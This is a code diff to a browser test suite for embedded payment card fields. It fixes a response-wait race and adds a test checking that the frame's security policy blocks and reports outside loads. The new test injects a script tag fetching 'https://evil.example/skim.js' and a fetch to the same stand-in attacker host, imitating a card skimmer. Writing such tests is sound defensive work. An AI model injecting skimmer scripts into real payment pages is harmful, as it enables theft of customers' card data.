@@ -255,8 +255,9 @@ describe("card fields in a real browser", { skip: noBrowser }, () => {
       await fields.getByLabel("Expiry date").pressSequentially("1230");
       await fields.getByLabel("Security code").pressSequentially("123");
       await fields.getByLabel("Name on the card").pressSequentially("Ana Lima");
+      const ordered = page.waitForResponse((response) => response.url().endsWith("/orders"));
       await fields.getByLabel("Name on the card").press("Enter");
-      await page.waitForResponse((response) => response.url().endsWith("/orders"));
+      await ordered;
       const { token } = JSON.parse(orders.join("")) as { readonly token: string };
       const { body } = await server.postJson(
         "/ws/direct",
@@ -411,6 +412,24 @@ frame.onload = () => { window.loaded = true; }; document.body.append(frame);`;
         },
         { policy },
       );
+    });
+  });
+
+  test("report what their policy refuses", async () => {
+    await within(mounting(), async ({ page, frame }) => {
+      await frame
+        .evaluate(
+          "const script = document.createElement('script'); script.setAttribute('src', 'https://evil.example/skim.js'); document.head.append(script);",
+        )
+        .catch(() => undefined);
+      await frame.evaluate("void fetch('https://evil.example/').catch(() => undefined)");
+      const deadline = Date.now() + 10_000;
+      const reported = () =>
+        server.events.filter(
+          (event) => event.event === "fields_changed" && event.blocked === "https://evil.example",
+        );
+      while (reported().length === 0 && Date.now() < deadline) await page.waitForTimeout(50);
+      assert.notEqual(reported().length, 0);
     });
   });
 
